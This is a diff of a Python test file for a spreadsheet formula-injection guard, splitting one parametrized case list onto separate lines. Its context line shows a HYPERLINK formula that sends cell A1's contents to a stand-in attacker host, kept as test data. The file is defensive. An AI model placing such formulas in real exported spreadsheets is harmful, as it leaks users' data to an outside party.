@@ -28,10 +28,21 @@ HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
 @pytest.mark.parametrize(
     ("value", "expected"),
     [
-        ("=1+1", "'=1+1"), ("+1+2", "'+1+2"), ("-1+2", "'-1+2"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
-        ("-5", "-5"), ("+3.25", "+3.25"), ("-1,200.5", "-1,200.5"), ("ก=1", "ก=1"), ("", ""), (-5, -5), (None, None),
+        ("=1+1", "'=1+1"),
+        ("+1+2", "'+1+2"),
+        ("-1+2", "'-1+2"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("-5", "-5"),
+        ("+3.25", "+3.25"),
+        ("-1,200.5", "-1,200.5"),
+        ("ก=1", "ก=1"),
+        ("", ""),
+        (-5, -5),
+        (None, None),
     ],
-)  # fmt: skip
+)
 def test_neutralise_prefixes_formula_triggers_but_keeps_plain_numbers(value, expected):
     assert neutralise(value) == expected
 
